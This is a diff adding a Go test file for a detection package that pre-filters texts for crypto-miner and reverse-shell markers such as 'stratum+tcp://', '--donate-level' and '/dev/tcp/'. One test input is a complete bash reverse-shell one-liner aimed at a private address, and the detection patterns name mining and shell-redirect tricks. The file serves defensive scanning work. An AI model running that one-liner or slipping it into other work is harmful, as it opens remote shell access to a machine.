@@ -1,0 +1,53 @@
+package detect
+
+import (
+	"math/rand/v2"
+	"strings"
+	"testing"
+)
+
+// TestClues: what a text contains is never denied, and little else is let through.
+func TestClues(t *testing.T) {
+	t.Parallel()
+	ms := marks("stratum+tcp://", "--donate-level", "/dev/tcp/")
+	for _, text := range []string{"x STRATUM+TCP://pool.example:3333", "--donate-level=1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "a--Donate-Level"} {
+		var c clues
+		c.add(text)
+		found := false
+		for i := range ms {
+			if strings.Contains(strings.ToLower(text), ms[i].text) {
+				found = true
+				if !c.may(&ms[i]) {
+					t.Errorf("%q is denied to contain %q", text, ms[i].text)
+				}
+			}
+		}
+		if !found || !c.any(ms) {
+			t.Errorf("%q: %v", text, c.any(ms))
+		}
+	}
+	rnd, passed := rand.New(rand.NewPCG(1, 2)), 0
+	for range 1000 {
+		var c clues
+		b := make([]byte, 120)
+		for i := range b {
+			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789/-_. ="[rnd.IntN(42)]
+		}
+		if c.add(string(b)); c.any(ms) {
+			passed++
+		}
+	}
+	if passed > 20 {
+		t.Errorf("%d of 1000 texts by chance may contain one", passed)
+	}
+}
+
+func TestClues_Network(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]bool{"10.20": true, "x10.2": true, "a.1": false, "1.a": false, ".1": false, "": false, "v1.2.3": true, "1 .2": false} {
+		var c clues
+		if c.add(text); c.network != want {
+			t.Errorf("%q: %v", text, c.network)
+		}
+	}
+}
